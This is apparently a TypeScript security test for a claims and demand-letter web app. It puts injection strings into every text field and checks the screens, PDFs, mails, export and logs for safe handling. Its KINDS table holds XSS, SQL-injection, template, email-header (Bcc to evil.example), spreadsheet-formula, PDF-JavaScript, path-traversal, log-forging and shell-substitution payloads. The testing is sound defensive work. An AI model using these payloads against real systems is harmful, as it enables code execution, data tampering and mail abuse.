import { saveFormData } from '@redress/contracts';
import { schemaOf } from '@redress/contracts/requests';
import { withoutDirections } from '../../../packages/domain/src/fields/drawn.ts';
import { sentenceKey, sentencesOf } from '../../../packages/domain/src/letter/gate/index.ts';
import { ANSWERS, answersByApi, paidClaim } from '../../support/api-claim.ts';
import { pdfText } from '../../support/pdf.ts';
import { mailsTo } from '../../support/people.ts';
import type { Program } from '../../support/program.ts';
import type { Client } from '../../support/client.ts';
import { openChromium } from '../../support/chromium.ts';
import { pageOf, visit } from '../support/chromium.ts';
import { Tally, type Attack, type Part } from '../support/part.ts';
import { aPerson } from '../support/people.ts';

/** One text of each kind. A script that ran would leave `attacked`, ask for /attacked, or open a dialog. */
const KINDS: Record<string, string> = {
  script: '<script>globalThis.attacked=1;fetch("/attacked")</script>',
  attribute: '"><img src=/attacked onerror="globalThis.attacked=1">',
  svg: '<svg onload=globalThis.attacked=1><a xlink:href="javascript:alert(1)">x</a></svg>',
  address: 'javascript:globalThis.attacked=1',
  sql: "'); update claims.account set email='x'; --",
  template: '{{constructor.constructor("globalThis.attacked=1")()}} ${7*7} <%= 7*7 %> #{7*7} %{header.site_title}',
  header: 'a\r\nBcc: injected@evil.example\r\nX-Injected: 1\r\n\r\nbody',
  formula: '=HYPERLINK("http://evil.example";"x") +1 -1 @SUM(1)',
  pdf: ') Tj ET >> endobj 1 0 obj << /OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >> >>',
  bidi: 'abc\u202edlrow\u202c \u2066x\u2069 \u200bz',
  surrogate: 'half \ud83d of a pair',
  path: '../../../../etc/passwd %2e%2e%2f file:///etc/passwd',
  log: 'ok"}\n{"level":"error","msg":"forged"}\r\n\u2028{"level":"fatal"}',
  format: '%s%s%n%x {0} {} %(name)s $HOME `id` $(id)',
  prototype: '__proto__.attacked constructor.prototype.attacked',
  html: '&lt;script&gt;alert(1)&lt;/script&gt; &amp; <b>bold</b> <!-- x --> <style>*{display:none}</style>',
};
const NUL = 'a\0b';
const PAGES = [
  '/dashboard',
  '/completed-sessions',
  '/demand-letters',
  '/billing',
  '/court-documents',
  '/result',
  '/settings',
  '/',
];
/** Fields of an answer that are texts of people and no codes. */
const LETTER_FIELDS = ['claimDescription', 'claimCalculation', 'venmo', 'cashapp'];

const bare = (text: string) => text.toWellFormed().replace(/[\s\p{Cc}\p{Cf}]+/gu, '');

/** Text fields of a claim, from the schema, with the longest text each takes. */
function textFields(): [string, number][] {
  const { properties = {} } = schemaOf(saveFormData);
  return Object.entries(properties).flatMap(([name, schema]) => {
    const text = [schema, ...(schema.anyOf ?? [])].find(
      ({ type, enum: choices, pattern }) => type === 'string' && !choices && !pattern,
    );
    return text && !/id$|signature|Package|userType|whoUser/.test(name)
      ? [[name, text.maxLength ?? 300] as [string, number]]
      : [];
  });
}

async function drafts(browser: Client, program: Program, tally: Tally) {
  for (const [kind, payload] of Object.entries(KINDS)) {
    const id = await answersByApi(browser, program, ANSWERS, [5, 1]);
    const fields = textFields();
    const words = Object.fromEntries(
      fields.map(([name, most]) => [name, `zq${kind} ${payload}`.slice(0, most).toWellFormed()]),
    );
    const saved = await browser.send('POST', '/api/register/save_form_data.php', {
      json: { form_session_id: id, ...words },
    });
    const read = await browser.send('GET', '/api/sessions/form_session', { query: { form_session_id: id } });
    const kept = (read.json?.['session'] as { form_data?: Record<string, unknown> } | undefined)?.form_data ?? {};
    for (const [name] of fields) {
      const isSame = saved.status === 422 || kept[name] === withoutDirections(words[name] ?? '');
      tally.add(isSame ? null : `${name} was not kept as it was typed (${kind})`);
    }
    for (const [name] of fields) {
      const answer = await browser.send('POST', '/api/register/save_form_data.php', {
        json: { form_session_id: id, [name]: NUL },
      });
      if (kind === 'script') tally.add(answer.status === 400 ? null : `${name} took NUL with ${answer.status}`);
      else break;
    }
  }
}

interface Screens {
  page: Awaited<ReturnType<typeof pageOf>>;
  /** What happened in the page that must not. */
  happened: string[];
}

async function screensOf(chromium: Awaited<ReturnType<typeof openChromium>>, browser: Client): Promise<Screens> {
  const page = await pageOf(chromium, browser);
  const happened: string[] = [];
  page.on('dialog', (dialog) => {
    happened.push(`a dialog opened: ${dialog.message()}`);
    void dialog.dismiss();
  });
  page.on('request', (request) => {
    if (new URL(request.url()).pathname === '/attacked') happened.push('a text made the page ask for an address');
  });
  page.on('pageerror', (error) => happened.push(`an error in the page: ${error.message}`));
  return { page, happened };
}

async function oneKind(
  program: Program,
  kind: string,
  payload: string,
  chromium: Awaited<ReturnType<typeof openChromium>>,
  tallies: Record<string, Tally>,
) {
  const { browser, address } = await aPerson(program);
  const typed = `zq${kind} ${payload}`;
  const words = {
    ...Object.fromEntries(LETTER_FIELDS.map((name) => [name, typed.slice(0, 110)])),
    claimDescription: `${ANSWERS.claimDescription} ${typed}`,
    // A sentence without a verb of the past stands in the letter only when it is kept.
    sentenceChoices: sentencesOf(`${ANSWERS.claimDescription} ${typed}`).map((sentence) => ({
      key: sentenceKey(sentence),
      choice: 'keep',
    })),
    apt: typed.slice(0, 50),
  };
  const claim = await paidClaim(browser, program, address, undefined, words);
  const [screen, pdf, mail, file] = ['screen', 'pdf', 'mail', 'file'].map((name) => tallies[name] as Tally) as [
    Tally,
    Tally,
    Tally,
    Tally,
  ];

  const letter = await browser.send('POST', '/api/pdf/generate_secure_pdf.php', {
    json: { demand_id: claim.demandId, action: 'download' },
  });
  const drawn = letter.status === 200 ? bare(await pdfText(letter.bytes)) : '';
  const raw = letter.bytes.toString('latin1');
  pdf.add(letter.status === 200 ? null : `${kind}: the PDF was answered with ${letter.status}`);
  pdf.add(
    /\/(?:JavaScript|JS|OpenAction|AA|Launch|EmbeddedFile|URI|SubmitForm)\b/.exec(raw) &&
      `${kind}: the PDF holds an action`,
  );
  // The gate of the letter may leave a sentence out; what is printed is printed as it was typed.
  if (drawn.includes(`zq${kind}`))
    pdf.add(drawn.includes(bare(typed).slice(0, 25)) ? null : `${kind}: the PDF prints another text`);
  file.add(
    /^(?:inline|attachment); filename="[\w.-]+"$/.test(String(letter.headers['content-disposition']))
      ? null
      : `${kind}: file name ${letter.headers['content-disposition']}`,
  );
  const data = await browser.send('GET', '/api/account/export');
  file.add(
    data.json && data.text.includes(JSON.stringify(withoutDirections(typed).slice(0, 20).toWellFormed()).slice(1, -1))
      ? null
      : `${kind}: the export has it otherwise`,
  );

  const { page, happened } = await screensOf(chromium, browser);
  let isShown = false;
  await visit(page, '/terms');
  await page.evaluate((id) => sessionStorage.setItem('form_session_id', id), claim.formSessionId);
  for (const path of PAGES) {
    await visit(page, path);
    if (path === '/result')
      await page.getByRole('textbox', { name: 'Text of the letter' }).waitFor({ timeout: 20_000 });
    const seen = await page.evaluate(() => ({
      attacked: (globalThis as { attacked?: unknown }).attacked ?? ({} as { attacked?: unknown }).attacked,
      text:
        document.body.innerText +
        [...document.querySelectorAll('textarea, input')].map((field) => (field as HTMLInputElement).value).join(' '),
      elements: document.querySelectorAll(
        '#redress [onerror], #redress [onload], #redress script, #redress a[href^="javascript:"]',
      ).length,
    }));
    isShown ||= bare(seen.text).includes(bare(typed).slice(0, 25));
    screen.add(
      seen.attacked !== undefined
        ? `${kind} ran on ${path}`
        : seen.elements > 0
          ? `${kind} became an element on ${path}`
          : null,
    );
  }
  for (const each of happened) screen.find(`${kind}: ${each}`);
  if (!isShown && drawn.includes(`zq${kind}`)) screen.find(`${kind}: no screen shows it as it was typed`);
  await page.context().close();

  const mails = await mailsTo(program, address);
  for (const { subject, html, text } of mails) {
    mail.add(/[\r\n]/.test(subject) ? `${kind}: a subject of two lines` : null);
    mail.add(
      /<script|<img|<svg|onerror=|onload=|javascript:/i.test(html)
        ? `${kind}: the HTML of a mail holds it as an element`
        : null,
    );
    mail.add(text.includes('X-Injected: 1\r\n\r\nbody') ? `${kind}: a mail's text ends early` : null);
  }
}

function logs(program: Program): Tally {
  const tally = new Tally('lines of the log: JSON each, with a level, none forged, no text of a claim');
  for (const line of program
    .output()
    .split('\n')
    .filter((each) => each.startsWith('{') || each.includes('forged'))) {
    let parsed: { level?: string; msg?: string } | null = null;
    try {
      parsed = JSON.parse(line) as { level?: string; msg?: string };
    } catch {
      // Looked at below.
    }
    const wrong = !parsed?.level
      ? 'a line is no JSON'
      : parsed.msg === 'forged'
        ? 'a line was forged'
        : /zq(?:script|sql|log|header)/.test(line)
          ? 'a line holds the text of a claim'
          : null;
    tally.add(wrong);
  }
  return tally;
}

export const injection: Part = {
  name: 'injection',
  about: `${Object.keys(KINDS).length + 1} kinds of text in every text field of a claim, followed to screens, PDF, mail, export and log`,
  notReached: ['CSV: the program writes none', 'the carrier: the sandbox takes what the program sends it'],
  async run(attack: Attack) {
    const program = await attack.program();
    const draft = new Tally('kept as typed, NUL refused: every text field of a draft, each kind');
    await drafts((await aPerson(program)).browser, program, draft);
    const tallies: Record<string, Tally> = {
      screen: new Tally(`${PAGES.length} screens in Chromium: no script runs, no element is made, the text is shown`),
      pdf: new Tally('the PDF of the letter: printed as typed, no action'),
      mail: new Tally('mails: subject, HTML and text'),
      file: new Tally('names of files, and the export'),
    };
    const chromium = await openChromium();
    try {
      for (const [kind, payload] of Object.entries(KINDS)) await oneKind(program, kind, payload, chromium, tallies);
    } finally {
      await chromium.close();
    }
    const injected = await mailsTo(program, 'injected@evil.example');
    if (injected.length > 0) tallies['mail']?.find('a mail went to an injected address');
    return [draft, ...Object.values(tallies), logs(program)].map((tally) => tally.row());
  },
};
